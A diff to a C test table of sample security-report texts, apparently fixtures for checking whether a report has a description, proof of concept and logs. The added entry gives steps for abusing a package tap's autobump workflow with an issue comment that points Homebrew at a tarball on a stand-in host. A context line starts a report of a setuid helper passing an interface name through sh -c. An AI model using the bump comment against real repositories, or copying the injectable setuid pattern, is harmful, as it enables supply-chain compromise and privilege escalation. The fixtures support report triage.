@@ -8,6 +8,15 @@ static const struct {
 	const char *body;
 	int description, poc, logs;   /* -1: do not care */
 } checks[] = {
+	/* (3615) the writer's own try named with where it was done, over
+	 * the steps */
+	{ "The tap's autobump workflow runs on any issue comment and pushes the formula with the tap's token, "
+	  "so anyone can point brew at their own tarball.\n\n"
+	  "I checked it ONLY on a private copy of the tap (at your tag v0.12.8), not on your real repo:\n"
+	  "1. copy the repo, enable actions, add a dummy TAP_PUSH_TOKEN\n"
+	  "2. from my second account (no access to the repo) open an issue and comment\n"
+	  "   /bump 0.12.9 https://203.0.113.77/msb-0.12.9.tar.gz 4f1c9e0b\n"
+	  "3. the workflow runs and pushes to main\n", TRUE, TRUE, -1 },
 	/* (3573) a helper run by its full path with a subcommand, and the
 	 * program it dropped in /tmp, pasted from a chat: the steps */
 	{ "El helper setuid arma el comando de ip con el nombre de la interfaz tap a trav\u00e9s de sh -c, sin "
